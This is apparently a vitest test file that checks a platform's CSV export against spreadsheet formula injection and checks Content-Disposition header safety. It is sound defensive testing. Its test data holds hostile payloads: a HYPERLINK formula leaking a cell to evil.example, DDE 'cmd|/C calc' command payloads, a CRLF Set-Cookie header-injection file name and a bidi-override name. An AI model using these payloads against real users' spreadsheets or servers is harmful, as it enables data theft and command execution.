/**
 * What the platform writes out as CSV: no cell a spreadsheet would run as a formula
 * (OWASP CSV injection: = + - @ tab CR, after blanks, full-width ＝＋－＠), numbers the
 * platform computed kept as numbers, the prefix undone on re-import of our own export,
 * and a Content-Disposition that is valid for any file name (RFC 6266 / 8187).
 */
import { parse } from 'csv-parse/sync';
import { Hono } from 'hono';
import { describe, expect, it } from 'vitest';
import { attachmentDisposition } from '../../functions/api/content-disposition.js';
import { csvResponse } from '../../functions/api/csv.js';
import { neutraliseCsvText, restoreCsvText, toCsv } from '../../functions/domain/csv.js';
import { CATALOGUE_COLUMNS, parseCatalogueCsv } from '../../functions/usecases/catalogue-csv.js';

const cells = (csv: string) => parse(csv, { bom: true, relax_column_count: true }) as string[][];

const DANGEROUS = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"点我查看")',
  '=1+1',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '-3.5',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '   =1+1',
  '\u3000=1+1',
  '\u00a0+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  '＝HYPERLINK("http://evil.example","x")',
  '＋1',
  '－1',
  '＠SUM(A1)',
  '﹦1+1',
  '\u22121',
];

describe('CSV cells', () => {
  it.each(DANGEROUS)('never start a formula: %j', (text) => {
    const out = neutraliseCsvText(text);
    expect(out).toBe(`'${text}`);
    const [row] = cells(toCsv(['text'], [[text]])).slice(1);
    expect(row).toEqual([`'${text}`]);
  });

  it('leave ordinary text and numbers the platform computed as they are', () => {
    const csv = toCsv(
      ['部门 Department', 'rate', 'change', 'n', 'big', 'empty'],
      [
        ['市场监督管理局', 0.75, -3.5, 0, 12n, ''],
        ['a-b', 1e21, -1.5e-7, null, undefined, 'x=1'],
      ],
    );
    expect(csv.startsWith('\uFEFF')).toBe(true);
    expect(csv).toContain('\r\n');
    expect(cells(csv)).toEqual([
      ['部门 Department', 'rate', 'change', 'n', 'big', 'empty'],
      ['市场监督管理局', '0.75', '-3.5', '0', '12', ''],
      ['a-b', '1e+21', '-1.5e-7', '', '', 'x=1'],
    ]);
  });

  it('neutralise what is not a finite number and objects too', () => {
    const [, row] = cells(toCsv(['a', 'b', 'c'], [[Number.NEGATIVE_INFINITY, Number.NaN, { x: '=1' }]]));
    expect(row).toEqual(["'-Infinity", 'NaN', '{"x":"=1"}']);
  });

  it('neutralise header cells like any other', () => {
    expect(cells(toCsv(['=cmd'], []))[0]).toEqual(["'=cmd"]);
  });

  it('can be read back to the text they were made from', () => {
    for (const text of [...DANGEROUS, "'", "'=1", "''=1", "'abc", 'abc', '', ' ', "it's"]) {
      expect(restoreCsvText(neutraliseCsvText(text))).toBe(text);
    }
    // A hand-made cell with an ordinary leading quote keeps it.
    expect(restoreCsvText("'s-Hertogenbosch")).toBe("'s-Hertogenbosch");
  });

  it('round-trip through a catalogue export and import', () => {
    const csv = toCsv(CATALOGUE_COLUMNS, [
      ['FOOD', '-食品经营许可', 'market', 'service', 18, 6, '2026-01-01'],
    ]);
    const parsed = parseCatalogueCsv(csv);
    expect(parsed).toEqual({
      records: [
        {
          code: 'FOOD',
          name: '-食品经营许可',
          departmentId: 'market',
          kind: 'service',
          statutoryDays: '18',
          promisedDays: '6',
          effectiveFrom: '2026-01-01',
        },
      ],
    });
  });
});

describe('Content-Disposition', () => {
  it('gives an ASCII fallback and the UTF-8 name for a Chinese file name', () => {
    expect(attachmentDisposition('report-district-徐汇区-2026-11.csv')).toBe(
      `attachment; filename="report-district-_-2026-11.csv"; filename*=UTF-8''report-district-%E5%BE%90%E6%B1%87%E5%8C%BA-2026-11.csv`,
    );
    expect(attachmentDisposition('report-city-all-2026-11.csv')).toBe(
      `attachment; filename="report-city-all-2026-11.csv"; filename*=UTF-8''report-city-all-2026-11.csv`,
    );
  });

  it('keeps quotes, backslashes, line breaks, bidi overrides and lone surrogates out of the header', () => {
    for (const name of [
      'a"b\\c.csv',
      'x\r\nSet-Cookie: a=b.csv',
      'evil\u202egpj.csv',
      'bad\ud800.csv',
      "it's (1)*.csv",
      '',
    ]) {
      const value = attachmentDisposition(name);
      expect(value).toMatch(
        /^attachment; filename="[A-Za-z0-9._-]+"; filename\*=UTF-8''[A-Za-z0-9!#$&+.^_`|~%-]+$/,
      );
      expect(() => new Headers({ 'content-disposition': value })).not.toThrow();
    }
  });

  it('is what a CSV response sends, which no longer fails for a non-Latin-1 name', async () => {
    const app = new Hono().get('/x', (c) =>
      csvResponse(c, 'report-district-浦东新区-2026-11.csv', ['a'], [['=1']]),
    );
    const res = await app.request('/x');
    expect(res.status).toBe(200);
    expect(res.headers.get('content-disposition')).toBe(
      `attachment; filename="report-district-_-2026-11.csv"; filename*=UTF-8''report-district-${encodeURIComponent('浦东新区')}-2026-11.csv`,
    );
    expect(cells(await res.text())).toEqual([['a'], ["'=1"]]);
  });
});
